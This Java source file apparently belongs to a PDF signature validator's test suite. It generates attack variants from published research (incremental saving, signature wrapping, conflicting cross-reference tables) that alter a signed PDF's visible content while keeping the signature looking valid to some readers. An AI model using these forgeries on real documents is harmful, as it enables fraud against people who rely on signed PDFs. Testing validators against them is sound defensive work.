package org.karteseal.validator.attack;

import java.io.ByteArrayOutputStream;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Objects;
import java.util.TreeMap;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.karteseal.validator.attack.Attack.Group;
import org.karteseal.validator.attack.Attack.Reader;

/**
 * Incremental saving, signature wrapping, and cross-references that tell readers different things.
 */
final class SavingAttacks {
  private static final String ISA = "Mladenov et al., CCS 2019, incremental saving attack";
  private static final String SWA = "Mladenov et al., CCS 2019, signature wrapping attack";
  private static final String XREF = "ISO 32000-2, 7.5.4 and 7.5.8.4";
  private static final int FIELD = 41;
  private static final int VALUE = 42;

  private final Bases bases;
  private final List<Attack> all = new ArrayList<>();

  private SavingAttacks(Bases bases) {
    this.bases = bases;
  }

  static List<Attack> all(Bases bases) {
    SavingAttacks attacks = new SavingAttacks(bases);
    attacks.saving();
    attacks.savingByStreams();
    attacks.wrapping();
    attacks.crossReferences();
    return attacks.all;
  }

  private Attack add(Attack attack) {
    all.add(attack);
    return attack;
  }

  private Attack isa(String name, Attack.Change change) {
    return Attack.of(Group.SAVING, "isa-" + name, ISA, bases::plain, change);
  }

  private static Update evil(byte[] file) {
    return Update.of(file).stream(Records.CONTENT, "", Records.content("900"));
  }

  private void saving() {
    add(isa("with-table", f -> evil(f).withTable()).shown());
    add(
        isa("without-table", f -> evil(f).withTrailerOnly(true))
            .works("readers that repair files"));
    add(
        isa("without-table-and-startxref", f -> evil(f).withTrailerOnly(false))
            .works("readers that repair files"));
    add(isa("objects-alone", f -> evil(f).bare()).works("readers that repair files"));
    add(
        isa("trailer-alone", f -> Update.of(f).trailer("/Info 99 0 R").withTrailerOnly(true))
            .works("readers that take the last trailer"));
    add(
        isa(
                "with-copied-signature",
                f -> {
                  Update update = evil(f);
                  return update
                      .put(VALUE, update.current(VALUE))
                      .put(FIELD, update.current(FIELD))
                      .withTable();
                })
            .shown());
    add(
        isa(
                "without-table-with-copied-signature",
                f -> {
                  Update update = evil(f);
                  return update.put(VALUE, update.current(VALUE)).withTrailerOnly(true);
                })
            .works("readers that repair files"));
    add(
        isa(
                "after-a-comment",
                f -> evil(join(f, RawPdf.octets("% \n%%EOF\n% a comment\n"))).withTable())
            .shown());
    add(
        isa("table-in-a-comment", f -> commented(evil(f).withTable(), f.length))
            .works("readers that look for keywords"));
    add(isa("prev-left-out", f -> complete(f)).shown());
    add(isa("other-catalog", SavingAttacks::otherCatalog).shown());
  }

  /** Everything new stands in comments. */
  private static byte[] commented(byte[] file, int from) {
    String tail = RawPdf.text(Arrays.copyOfRange(file, from, file.length));
    return join(
        Arrays.copyOf(file, from), RawPdf.octets(tail.replaceAll("(?m)^(?!startxref|\\d+$)", "%")));
  }

  private static byte[] complete(byte[] f) {
    Update update = evil(f).withoutPrev();
    places(f)
        .forEach(
            (n, p) -> {
              if (n != Records.CONTENT) update.point(n, p);
            });
    return update.withTable();
  }

  private static byte[] otherCatalog(byte[] f) {
    Update update = Update.of(f);
    String catalog = update.current(Records.CATALOG).replace("/Pages 2 0 R", "/Pages 81 0 R");
    return update
        .put(80, catalog)
        .put(81, "<< /Type /Pages /Kids [82 0 R] /Count 1 >>")
        .put(82, Records.page(83).replace("/Parent 2", "/Parent 81"))
        .stream(83, "", Records.content("900"))
        .root(80)
        .withTable();
  }

  /** The newest place of each object, by text. */
  static Map<Integer, Integer> places(byte[] file) {
    Map<Integer, Integer> places = new TreeMap<>();
    Matcher found = Pattern.compile("(?m)^(\\d+) 0 obj").matcher(RawPdf.text(file));
    while (found.find()) {
      places.put(Integer.parseInt(found.group(1)), found.start());
    }
    return places;
  }

  /** The newest place of one object, by text. */
  static int place(byte[] file, int number) {
    return Objects.requireNonNull(places(file).get(number));
  }

  static byte[] join(byte[] first, byte[] second) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes(first);
    out.writeBytes(second);
    return out.toByteArray();
  }

  private void savingByStreams() {
    add(isa("with-cross-reference-stream", f -> evil(f).withStream()).shown());
    add(isa("with-object-stream", f -> objectStream(f, "/Type /ObjStm")).shown());
    add(
        isa(
                "object-stream-that-says-it-is-none",
                f -> objectStream(f, "/Type /ObjStm /Subtype /XML"))
            .shown());
  }

  /** Object 3, the page, from an object stream: it shows the second page's content first. */
  private static byte[] objectStream(byte[] f, String type) {
    String page = Update.of(f).current(Records.PAGE).replace("/Contents 5 0 R", "/Contents 6 0 R");
    String head = "3 0 ";
    byte[] with =
        Update.of(f).stream(70, type + " /N 1 /First " + head.length(), head + page).bare();
    int place = RawPdf.text(with).lastIndexOf("70 0 obj");
    int own = with.length;
    String rows = String.format(Locale.ROOT, "02%08X00 01%08X00 01%08X00 >", 70, place, own);
    return join(
        with,
        RawPdf.octets(
            "71 0 obj\n"
                + RawPdf.stream(
                    "/Type /XRef /W [1 4 1] /Filter /ASCIIHexDecode /Size 72 /Index [3 1 70 2]"
                        + " /Root 1 0 R /Prev "
                        + Update.startxref(f),
                    rows)
                + "\nendobj\nstartxref\n"
                + own
                + "\n%%EOF\n"));
  }

  private void wrapping() {
    add(swa("moved-part-with-table", true, false).shown());
    add(swa("moved-part-without-table", false, false).works("readers that repair files"));
    add(swa("moved-part-behind-an-end-mark", true, true).shown());
    add(
        Attack.of(
                Group.WRAPPING,
                "swa-second-signature-dictionary",
                SWA,
                bases::plain,
                f ->
                    evil(f)
                        .put(90, Update.of(f).current(VALUE))
                        .put(91, Update.of(f).current(FIELD).replace("/V 42", "/V 90"))
                        .edit(Records.CATALOG, s -> s.replace("[41 0 R]", "[91 0 R]"))
                        .edit(Records.PAGE, s -> s.replace("[41 0 R]", "[91 0 R]"))
                        .withTable())
            .shown());
    add(
        Attack.of(
                Group.WRAPPING,
                "swa-two-byte-ranges",
                SWA,
                bases::plain,
                f ->
                    evil(f)
                        .edit(
                            VALUE,
                            s -> s.replaceFirst("/Type /Sig", "/Type /Sig /ByteRange [0 9 9 9]"))
                        .withTable())
            .shown());
  }

  /** The second signed part moved behind objects of the attacker, who closes the dictionary. */
  private Attack swa(String name, boolean table, boolean endMark) {
    return Attack.of(
        Group.WRAPPING, "swa-" + name, SWA, bases::plain, f -> wrapped(f, table, endMark));
  }

  private static byte[] wrapped(byte[] f, boolean table, boolean endMark) {
    Gap gap = Gap.of(f);
    byte[] second = Arrays.copyOfRange(f, gap.end(), f.length);
    int startxref = Update.startxref(f);
    int moved = startxref + 4000;
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.write(f, 0, gap.start());
    out.writeBytes(
        RawPdf.octets(
            "<"
                + gap.cms(f)
                + ">\n/ByteRange [0 "
                + gap.start()
                + " "
                + moved
                + " "
                + second.length
                + "]\n>>\nendobj\n"));
    Map<Integer, Integer> places = places(f);
    places.replaceAll((n, p) -> p > gap.end() ? p - gap.end() + moved : p);
    places.put(Records.CONTENT, out.size());
    out.writeBytes(
        RawPdf.octets("5 0 obj\n" + RawPdf.stream("", Records.content("900")) + "\nendobj\n"));
    pad(out, startxref);
    if (table) {
      StringBuilder entries = new StringBuilder("xref\n0 1\n0000000000 65535 f \n");
      places.forEach((n, p) -> entries.append(RawPdf.entry(n, p)));
      out.writeBytes(RawPdf.octets(entries + "trailer\n<< /Size 45 /Root 1 0 R /Info 20 0 R >>\n"));
    }
    if (endMark) {
      out.writeBytes(RawPdf.octets("startxref\n" + startxref + "\n%%EOF\n"));
    }
    pad(out, moved);
    out.writeBytes(second);
    return out.toByteArray();
  }

  private static void pad(ByteArrayOutputStream out, int to) {
    while (out.size() < to) {
      out.write('\n');
    }
  }

  private Attack xref(String name, Attack.Change change) {
    return Attack.of(Group.CROSS_REFERENCE, "xref-" + name, XREF, bases::plain, change);
  }

  private void crossReferences() {
    add(
        xref("hybrid-points-elsewhere", f -> hybrid(f))
            .works("readers that honour XRefStm and readers that do not see different pages"));
    add(
        xref(
                "two-tables-for-one-revision",
                f -> {
                  byte[] one = evil(f).withTable();
                  byte[] two = Update.of(f).point(Records.CONTENT_2, place(f, 6)).withTable();
                  byte[] tail = Arrays.copyOfRange(two, f.length, two.length);
                  int at = one.length;
                  String moved =
                      RawPdf.text(tail).replaceFirst("startxref\\s+\\d+", "startxref\n" + at);
                  return join(one, RawPdf.octets(moved));
                })
            .works("readers that repair files"));
    add(
        xref(
                "number-twice-in-one-table",
                f -> {
                  byte[] file = evil(f).withTable();
                  int old = place(f, Records.CONTENT);
                  return RawPdf.octets(
                      RawPdf.text(file)
                          .replaceFirst(
                              "(?s)(.*)trailer",
                              "$1" + RawPdf.entry(Records.CONTENT, old) + "trailer"));
                })
            .works("readers take the first or the last entry"));
    add(xref("number-twice-in-one-revision", f -> twice(f)).works("readers that repair files"));
    add(
        xref(
                "entry-to-an-object-in-a-stream",
                f -> {
                  byte[] with =
                      Update.of(f).stream(
                              75,
                              "",
                              "5 0 obj\n"
                                  + RawPdf.stream("", Records.content("900"))
                                  + "\nendobj\n")
                          .bare();
                  int hidden = RawPdf.text(with).lastIndexOf("5 0 obj");
                  return Update.of(with).point(Records.CONTENT, hidden).withTable();
                })
            .shown());
    add(
        xref(
                "entry-a-few-octets-off",
                f -> {
                  byte[] with =
                      Update.of(f).stream(Records.CONTENT, "", Records.content("900")).bare();
                  int place = RawPdf.text(with).lastIndexOf("5 0 obj");
                  return Update.of(with).point(Records.CONTENT, place - 1).withTable();
                })
            .shownBy(Reader.PDFBOX));
    add(
        xref("object-of-the-page-freed", f -> Update.of(f).free(Records.FORM).withTable())
            .works("readers that honour free entries"));
    add(
        xref(
                "startxref-of-an-older-revision",
                f ->
                    RawPdf.octets(
                        RawPdf.text(f)
                            + "startxref\n"
                            + RawPdf.text(f).indexOf("xref\n0 1\n")
                            + "\n%%EOF\n"))
            .works("the signature is gone for readers that follow the last startxref"));
  }

  private static byte[] twice(byte[] f) {
    byte[] honest = Update.of(f).stream(Records.CONTENT, "", Records.content("250")).bare();
    int place = RawPdf.text(honest).lastIndexOf("5 0 obj");
    byte[] both = Update.of(honest).stream(Records.CONTENT, "", Records.content("900")).bare();
    return Update.of(both).point(Records.CONTENT, place).withTable();
  }

  /** The table leaves the page as it was; the stream beside it has another content. */
  private static byte[] hybrid(byte[] f) {
    byte[] with = Update.of(f).stream(Records.CONTENT, "", Records.content("900")).bare();
    int place = RawPdf.text(with).lastIndexOf("5 0 obj");
    int own = with.length;
    String rows = String.format(Locale.ROOT, "01%08X00 01%08X00 >", place, own);
    byte[] stream =
        join(
            with,
            RawPdf.octets(
                "76 0 obj\n"
                    + RawPdf.stream(
                        "/Type /XRef /W [1 4 1] /Filter /ASCIIHexDecode /Size 77 /Index [5 1 76 1]"
                            + " /Root 1 0 R",
                        rows)
                    + "\nendobj\n"));
    return Update.of(stream)
        .point(Records.CONTENT_2, place(f, Records.CONTENT_2))
        .trailer("/XRefStm " + own)
        .withTable();
  }
}
